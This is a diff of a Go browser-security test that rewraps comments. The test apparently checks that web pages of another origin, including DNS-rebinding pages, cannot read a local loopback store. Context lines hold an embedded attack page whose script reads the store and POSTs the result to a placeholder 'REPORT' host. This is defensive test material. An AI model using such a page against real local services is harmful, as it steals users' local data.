@@ -25,8 +25,8 @@ import (
 // secret is what a page of another origin must not read.
 const secret = "the-workload-that-asks"
 
-// attack is the page of a web site that asks a store on the visitor's machine: as another origin, and, once its own name leads
-// there, as the same one. It tells its site what it was given.
+// attack is the page of a web site that asks a store on the visitor's machine: as another origin, and, once its own
+// name leads there, as the same one. It tells its site what it was given.
 const attack = `<!doctype html><script>
 const tell = (how, text) => fetch("http://REPORT/?how=" + how, {method: "POST", mode: "no-cors", body: text});
 const read = async (how, url, options) => {
@@ -74,8 +74,9 @@ func (c tellings) await(t *testing.T, how string, all map[string]string) {
 	}
 }
 
-// TestPagesOfOthersGetNothing: a web page in a browser on the same machine reads nothing from a store on loopback, neither as another
-// origin nor when its own name leads to the store. Without the guard the latter reads all: so the test can fail.
+// TestPagesOfOthersGetNothing: a web page in a browser on the same machine reads nothing from a store on loopback,
+// neither as another origin nor when its own name leads to the store. Without the guard the latter reads all: so the
+// test can fail.
 func TestPagesOfOthersGetNothing(t *testing.T) {
 	needChromium(t)
 	s := store.New(store.Limits{})
